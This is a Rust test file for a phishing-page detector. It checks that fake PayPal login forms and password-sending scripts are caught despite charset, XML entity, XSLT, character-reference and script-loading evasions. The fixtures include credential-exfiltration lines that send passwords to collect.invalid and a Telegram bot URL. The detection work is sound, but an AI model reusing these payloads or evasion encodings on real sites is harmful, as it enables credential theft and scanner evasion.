//! Pages that a browser shows but a careless parser would miss: charsets, XML, scripts under other names.

use std::fmt::Write as _;
use std::sync::LazyLock;

use dropleaf_content::{BundleTexts, decode_for_check, is_active, mime_of};
use dropleaf_inspect::phishing::{Rules, Verdict};
use dropleaf_inspect::secrets;

use crate::support::{check_bundle, for_inspection, upload, zip_of, zip_of_bytes};

static RULES: LazyLock<Rules> = LazyLock::new(Rules::builtin);

const FORM: &str = "<title>PayPal login</title><form action='https://collect.invalid/x.php'>\
                    <input name=\"email\"/><input type=\"password\" name=\"p\"/></form>";
const SENDER: &str = "fetch('https://api.telegram.org/bot1:a/sendMessage?chat_id=1&text='+password.value)";

fn judged(name: &str, bytes: impl Into<bytes::Bytes>) -> Verdict {
    check_bundle(&upload(name, bytes).unwrap(), &RULES)
}

fn judged_in_zip(files: &[(&str, &[u8])]) -> Verdict {
    judged("a.zip", zip_of_bytes(files))
}

fn is_refused(name: &str, text: &str) -> bool {
    judged_in_zip(&[("index.html", b"<h1>Hi</h1>"), (name, text.as_bytes())]).refused
}

#[test]
fn a_charset_that_browsers_do_not_believe_hides_nothing() {
    assert!(judged("a.html", FORM).refused);
    for start in [
        &b"<!-- charset=utf-16le --><!-- \xff -->"[..],
        b"<meta charset=\"utf-16le\"><!-- \xff -->",
        b"<meta charset=iso-2022-kr>\xff",
        b"<meta charset=hz-gb-2312>\xff",
        b"<meta charset=x-user-defined>\xff",
        b"<meta charset=utf-8>\xff",
        b"<p title='charset=utf-16be'>\xff</p>",
        b"\xef\xbb\xbf<meta charset=utf-16le>\xff",
        b"\xff",
    ] {
        let page = [start, FORM.as_bytes()].concat();
        let seen = String::from_utf8_lossy(start);
        assert!(judged("a.html", page.clone()).refused, "{seen}");
        assert!(judged_in_zip(&[("index.html", b"x"), ("b.htm", &page)]).refused, "{seen}");
        assert!(decode_for_check("a.html", page.clone()).text.contains(FORM), "{seen}");
    }
}

#[test]
fn what_is_sent_names_the_charset_that_was_read() {
    for (page, mime) in [
        (&b"<meta charset=koi8-r>\xff"[..], "text/html; charset=koi8-r"),
        (b"<meta charset=utf-16le>\xff", "text/html; charset=utf-8"),
        (b"<!-- charset=utf-16le -->\xff", "text/html; charset=windows-1252"),
        (b"<meta charset=shift_jis>x", "text/html; charset=utf-8"),
    ] {
        assert_eq!(upload("a.html", page).unwrap().files[0].mime, mime);
    }
}

#[test]
fn scripts_and_drawings_are_utf8_whatever_they_say() {
    let script = [b"// charset=utf-16le \xff\n", SENDER.as_bytes()].concat();
    let page =
        b"<title>PayPal</title><h1>Sign in</h1><input id=password type=password><script src=a.js></script>";
    assert!(judged_in_zip(&[("index.html", page), ("a.js", SENDER.as_bytes())]).refused);
    assert!(judged_in_zip(&[("index.html", page), ("a.js", &script)]).refused);
    let drawing = ["<?xml version='1.0' encoding='utf-16le'?><x>\u{e9}", FORM, "</x>"].concat();
    assert!(is_refused("a.xhtml", &drawing));
    let broken = [b"<?xml version='1.0' encoding='utf-16le'?><x>\xff", FORM.as_bytes(), b"</x>"].concat();
    assert!(judged_in_zip(&[("index.html", b"x"), ("a.svg", &broken)]).refused);
}

/// Every extension in the table of media types, taken from its source code.
fn extensions() -> Vec<String> {
    let table = include_str!("../../../core/src/mime.rs");
    let from = table.find("fn mime_of").unwrap();
    let words = table[from..].split('"').skip(1).step_by(2);
    let words = words.filter(|word| word.bytes().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit()));
    let known = words.filter(|word| mime_of(&format!("a.{word}")) != "application/octet-stream");
    known.map(str::to_owned).collect()
}

#[test]
fn whatever_is_sent_as_a_page_is_read_as_one() {
    let extensions = extensions();
    assert!(extensions.len() > 60, "{extensions:?}");
    let mut active = 0;
    for extension in extensions {
        let name = format!("x/login.{extension}");
        let expected = is_active(mime_of(&name));
        assert_eq!(is_refused(&name, &format!("<x>{FORM}</x>")), expected, "{name}");
        active += usize::from(expected);
    }
    assert!(active >= 10, "{active}");
}

#[test]
fn whatever_is_sent_as_text_is_searched_for_secrets() {
    let key = format!("key = AKIA{}\n", "ABCDEFGHIJKLMNOP");
    assert!(!secrets::find("a.txt", &key).is_empty());
    for extension in extensions() {
        let name = format!("x/a.{extension}");
        let zip = zip_of(&[("index.html", "<p>x"), (&name, &key)]);
        let bundle = upload("a.zip", zip).unwrap();
        let found = secrets::find_in_texts(&for_inspection(&BundleTexts::of(&bundle).unwrap()));
        assert_eq!(!found.is_empty(), mime_of(&name).contains("charset="), "{name}");
    }
}

#[test]
fn xml_is_read_as_xml() {
    let form = "<h:title>PayPal login</h:title><h:form action='https://collect.invalid/x.php'>\
                <h:input name='email'/><h:input type='password' name='p'/></h:form>";
    let space = "xmlns:h='http://www.w3.org/1999/xhtml'";
    assert!(is_refused("a.svg", &format!("<svg xmlns='http://www.w3.org/2000/svg' {space}>{form}</svg>")));
    let odd = form.replace("h:", "\u{e9}:");
    assert!(is_refused("a.xml", &format!("<x xmlns:\u{e9}='http://www.w3.org/1999/xhtml'>{odd}</x>")));
    for before in [
        "<h:style/>",
        "<h:plaintext/>",
        "<h:textarea/>",
        "<h:title/>",
        "<h:script/>",
        "<h:a><![CDATA[ > <!-- ]]></h:a>",
        "<?x > <!-- ?>",
    ] {
        let page = format!("<h:html {space}>{before}{form}</h:html>");
        assert!(is_refused("a.xhtml", &page), "{before}");
    }
    assert!(is_refused("a.xhtml", &format!("<!DOCTYPE x SYSTEM '><!--'><h:html {space}>{form}</h:html>")));
}

#[test]
fn xml_that_builds_markup_is_refused_with_a_remedy() {
    for document in [
        "<!DOCTYPE html [<!ENTITY f \"&#60;form>&#60;input type='password'/>&#60;/form>\">]><html>&f;</html>",
        "<!DOCTYPE html [<!ATTLIST input type CDATA 'password'>]><html><input/></html>",
        "<?xml-stylesheet type='text/xsl' href='data:text/xml,x'?><x/>",
    ] {
        let verdict = judged_in_zip(&[("index.html", b"x"), ("a.xhtml", document.as_bytes())]);
        assert!(verdict.refused, "{document}");
        assert_eq!(verdict.reasons[0].rule, "built-markup");
        assert!(!verdict.reasons[0].fix.is_empty());
    }
    let sheet = |inside: &str| {
        format!(
            "<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'>\
             <xsl:template match='/'><html>{inside}</html></xsl:template></xsl:stylesheet>"
        )
    };
    for inside in [
        "<xsl:element name=\"{concat('in','put')}\"/>",
        "<input><xsl:attribute name='type'>password</xsl:attribute></input>",
        "<input type='{@kind}'/>",
        FORM,
        &FORM.replace('<', "&lt;"),
    ] {
        assert!(is_refused("a.xsl", &sheet(inside)), "{inside}");
    }
    // Written by drawing programs and feed generators.
    for honest in [
        "<!DOCTYPE svg [<!ENTITY ns_svg \"http://www.w3.org/2000/svg\"><!ENTITY nbsp \"&#160;\">]><svg xmlns='&ns_svg;'/>",
        "<?xml-stylesheet type='text/css' href='a.css'?><rss><item>&lt;p&gt;Hello&lt;/p&gt;</item></rss>",
        "<?xml-stylesheet type='text/xsl' href='a.xsl'?><feed><p>&lt;b&gt;news&lt;/b&gt;</p></feed>",
    ] {
        assert!(!is_refused("a.xml", honest), "{honest}");
    }
    let link = "<a><xsl:attribute name='href'><xsl:value-of select='@u'/></xsl:attribute></a>";
    assert!(!is_refused("a.xsl", &sheet(link)));
}

#[test]
fn texts_with_names_and_scripts_of_drawings_are_seen() {
    let named = format!(
        "<!DOCTYPE html [<!ENTITY b 'PayPal'><!ENTITY p 'password'><!ENTITY u 'https://collect.invalid'>]><html>{}</html>",
        FORM.replace("PayPal", "&b;")
            .replace("\"password\"", "\"&p;\"")
            .replace("https://collect.invalid", "&u;")
    );
    assert!(is_refused("a.xhtml", &named));
    let page = "<title>PayPal</title><h1>Sign in</h1><input id=password type=password>";
    assert!(judged("a.html", format!("{page}<svg><script>{SENDER}</script></svg>")).refused);
}

#[test]
fn scripts_belong_to_their_page_however_it_names_them() {
    let script = "document.body.innerHTML=\"<form><input name=email><input type=password></form>\";\
                  f.onsubmit=function(){fetch('https://collect.invalid/x',{method:'POST',body:new FormData(f)})}";
    let page = |load: &str| format!("<title>PayPal</title><h1>Log in to your PayPal account</h1>{load}");
    let is_refused = |load: &str, files: &[(&str, &str)]| {
        let page = page(load);
        let files: Vec<(&str, &str)> =
            std::iter::once(("index.html", page.as_str())).chain(files.iter().copied()).collect();
        judged("a.zip", zip_of(&files)).refused
    };
    assert!(!is_refused("<script src=b.js></script>", &[("b.js", "1")]));
    for (load, path) in [
        ("<script src=a.js></script>", "a.js"),
        ("<base href='sub/'><script src=a.js></script>", "sub/a.js"),
        ("<script src='%61.js'></script>", "a.js"),
        ("<script src='A.js'></script>", "A.js"),
        ("<script type=module>import './a.js'</script>", "a.js"),
        ("<script type=module>import('./a.js')</script>", "a.js"),
        ("<svg><script href='a.js'/></svg>", "a.js"),
        ("<svg><script xlink:href='a.js'></script></svg>", "a.js"),
        ("<script>s=document.createElement('script');s.src='x/a.js?1'</script>", "x/a.js"),
        ("<script type=importmap>{\"imports\":{\"m\":\"./x/a.mjs\"}}</script>", "x/a.mjs"),
    ] {
        assert!(is_refused(load, &[(path, script)]), "{load}");
    }
    let chain = [("x/m.js", "import './n.js'"), ("x/n.js", "import('../a.js')"), ("a.js", script)];
    assert!(is_refused("<script type=module src=x/m.js></script>", &chain));
    let many = (0..300).map(|n| format!("<script src={n}.js></script>")).collect::<Vec<_>>().concat();
    assert!(is_refused(&format!("{many}<script src=a.js></script>"), &[("a.js", script)]));
}

/// Every character as a numeric reference without a semicolon, and some as named references.
fn numbered(text: &str) -> [String; 3] {
    let digit = |c: char| c.is_ascii_hexdigit();
    let mut numbers = String::new();
    let mut few = String::new();
    let mut names = String::new();
    for (at, c) in text.char_indices() {
        let next = text[at + c.len_utf8()..].chars().next();
        // A digit after the number would become part of it.
        let end = if next.is_some_and(digit) { ";" } else { "" };
        write!(numbers, "&#{}", u32::from(c)).unwrap();
        match c {
            '<' | '>' | '\'' | '(' | ')' | ':' | '=' => write!(few, "&#x{:X}{end}", u32::from(c)).unwrap(),
            other => few.push(other),
        }
        let name = match c {
            '<' => "&LT;",
            '>' => "&GT;",
            '(' => "&lpar;",
            ')' => "&rpar;",
            ':' => "&colon;",
            '/' => "&sol;",
            '\'' => "&apos;",
            '=' => "&equals;",
            '.' => "&period;",
            '?' => "&quest;",
            '&' => "&amp;",
            '+' => "&plus;",
            '_' => "&UnderBar;",
            _ => "",
        };
        names.push_str(name);
        if name.is_empty() {
            names.push(c);
        }
    }
    [numbers, few, names]
}

#[test]
fn references_that_browsers_decode_hide_nothing() {
    let form = FORM.replace('"', "'");
    for page in numbered(&form) {
        assert!(judged("a.html", format!("<iframe srcdoc=\"{page}\"></iframe>")).refused, "srcdoc {page}");
    }
    let field = "<title>Members</title><h1>Welcome</h1><input id=password type=password>";
    assert!(!judged("a.html", field).refused, "what follows has to decide");
    for code in numbered(SENDER) {
        for page in [
            format!("{field}<button onclick=\"{code}\">Go</button>"),
            format!("{field}<a href=\"javascript:{code}\">Go</a>"),
            format!("{field}<a href=\"&#106ava&Tab;script&colon;{code}\">Go</a>"),
            format!("{field}<a href=\" java&NewLine;script&#58{code}\">Go</a>"),
            format!("{field}<map><area href=\"javascript:{code}\"></map>"),
            format!("{field}<svg><a xlink:href=\"javascript:{code}\"><text>Go</text></a></svg>"),
            format!("{field}<form action=\"javascript:{code}\"></form>"),
            format!("{field}<button formaction=\"&#0106avascript:{code}\">Go</button>"),
            format!("{field}<iframe src=\"&#106avascript:{code}\"></iframe>"),
        ] {
            assert!(judged("a.html", page.clone()).refused, "{page}");
        }
        let drawing = format!(
            "<svg xmlns='http://www.w3.org/2000/svg' xmlns:h='http://www.w3.org/1999/xhtml'><h:title>Members</h:title>\
             <h:h1>Welcome</h:h1><h:input type='password'/><script>{code}</script></svg>"
        );
        assert!(is_refused("a.svg", &drawing), "{drawing}");
    }
    // A URL stays as it is: `&copy` before `=` is not a copyright sign in an attribute.
    assert!(!judged("a.html", "<p>Report</p><a href='/a?x=1&copy=2&lt=3'>next</a>").refused);
}
